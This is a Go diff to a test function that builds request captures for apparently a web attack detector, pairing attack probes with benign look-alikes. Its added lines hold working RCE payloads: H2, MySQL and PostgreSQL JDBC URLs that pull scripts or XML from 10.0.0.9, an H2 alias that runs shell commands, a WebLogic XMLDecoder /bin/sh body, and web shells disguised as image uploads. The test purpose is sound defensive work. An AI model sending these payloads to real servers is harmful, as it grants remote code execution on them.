@@ -184,6 +184,13 @@ func cveProbes() (cs, leftOpen []toolCapture) {
 	a.get("/lookup", "text", `${dns:address|x.oob.example.net}`)
 	a.json("/api/rules", `{"condition":"Runtime.getRuntime().exec(\"id\")"}`)
 	a.get("/console/css/%252e%252e%252fconsole.portal", "handle", `com.tangosol.coherence.mvel2.sh.ShellSession("java.lang.Runtime.getRuntime().exec('id');")`)
+	// JDBC URLs and H2 statements that run code in the driver.
+	a.form("/h2-console/login.do", "driver=org.h2.Driver&url="+url.QueryEscape("jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://10.0.0.9/x.sql'")+"&user=sa&password=")
+	a.json("/api/datasources", `{"url":"jdbc:mysql://10.0.0.9:3306/x?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor"}`)
+	a.json("/api/datasources", `{"url":"jdbc:postgresql://db/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://10.0.0.9/x.xml"}`)
+	a.json("/actuator/env", `{"name":"spring.datasource.hikari.connection-test-query","value":"CREATE ALIAS EXEC AS 'String shellexec(String cmd) throws java.io.IOException {Runtime.getRuntime().exec(cmd);}'; CALL EXEC('id');"}`)
+	ok.json("/api/datasources", `{"url":"jdbc:postgresql://db.internal:5432/shop?sslmode=require&ApplicationName=reports"}`)
+	ok.json("/api/datasources", `{"url":"jdbc:h2:file:./data/app;MODE=PostgreSQL;AUTO_SERVER=TRUE"}`)
 	ok.get("/docs", "q", "Use java.lang.Runtime#availableProcessors to size the pool")
 	ok.json("/api/notes", `{"text":"In SpEL, T(java.lang.Math) refers to the type, as the reference manual shows."}`)
 	ok.get("/search", "q", "price ${amount} and #{count} placeholders")
@@ -300,6 +307,8 @@ func cveProbes() (cs, leftOpen []toolCapture) {
 	a.add("POST", "/api/config", "x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://10.0.0.9/x.jar\"]]]]\n", [2]string{"Content-Type", "text/plain"})
 	a.xml("/struts2-rest-showcase/orders/3", `<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data"><dataHandler><dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource"><is class="javax.crypto.CipherInputStream"><cipher class="javax.crypto.NullCipher"><serviceIterator class="javax.imageio.spi.FilterIterator"><iter class="javax.imageio.spi.FilterIterator"><iter class="java.util.Collections$EmptyIterator"/><next class="java.lang.ProcessBuilder"><command><string>id</string></command><redirectErrorStream>false</redirectErrorStream></next></iter><filter class="javax.imageio.ImageIO$ContainsFilter"><method><class>java.lang.ProcessBuilder</class><name>start</name><parameter-types/></method><name>foo</name></filter><next class="string">foo</next></serviceIterator><lock/></cipher><input class="java.lang.ProcessBuilder$NullInputStream"/><ibuffer></ibuffer></is></dataSource></dataHandler></value></jdk.nashorn.internal.objects.NativeString><jdk.nashorn.internal.objects.NativeString reference="../jdk.nashorn.internal.objects.NativeString"/></entry></map>`)
 	a.xml("/api/import", `<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></object></java>`)
+	a.json("/api/jsonws/invoke", `{"cmd":"{\"/expandocolumn/add-column\":{}}","tableId":"1","+defaultData":"com.mchange.v2.c3p0.WrapperConnectionPoolDataSource","defaultData.userOverridesAsString":"HexAsciiSerializedMap:ACED00057372001173"}`)
+	a.xml("/wls-wsat/CoordinatorPortType", `<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java version="1.8" class="java.beans.XMLDecoder"><void class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>/bin/sh</string></void><void index="1"><string>-c</string></void><void index="2"><string>id</string></void></array><void method="start"/></void></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>`)
 	ok.field("/default.aspx", "__VIEWSTATE", "/wEPDwULLTE2MTY2ODcyMjlkZNc1d2x1ZWdvbGQ=")
 	ok.add("GET", "/account", "", [2]string{"Cookie", "prefs=" + url.QueryEscape(`a:2:{s:4:"lang";s:2:"en";s:5:"theme";s:4:"dark";}`)})
 	ok.add("GET", "/account", "", [2]string{"Cookie", "session=eyJ1c2VyIjoiYW5uIiwiZXhwIjoxNzAwMDAwMDAwfQ.c2lnbmF0dXJl"})
@@ -457,6 +466,9 @@ func cveProbes() (cs, leftOpen []toolCapture) {
 		{"cmd.aspx", "image/gif", `<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); %>`},
 		{"cmd.ashx", "text/plain", "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.Web;\npublic class H : IHttpHandler { public void ProcessRequest(HttpContext c) { System.Diagnostics.Process.Start(c.Request[\"c\"]); } public bool IsReusable { get { return false; } } }"},
 		{"x.asp", "image/jpeg", `<%eval request("x")%>`},
+		{"cmd.png", "image/png", `<%Runtime.getRuntime().exec(request.getParameter("c"));%>`},
+		{"x.gif", "image/gif", `<%!String c;%><%=c%>`},
+		{"x.cer", "image/png", `<%execute request("x")%>`},
 		{".htaccess", "text/plain", "AddType application/x-httpd-php .jpg\n"},
 		{".htaccess", "text/plain", "<FilesMatch \"\\.png$\">\nSetHandler application/x-httpd-php\n</FilesMatch>\n"},
 		{".user.ini", "text/plain", "auto_prepend_file=avatar.jpg\n"},
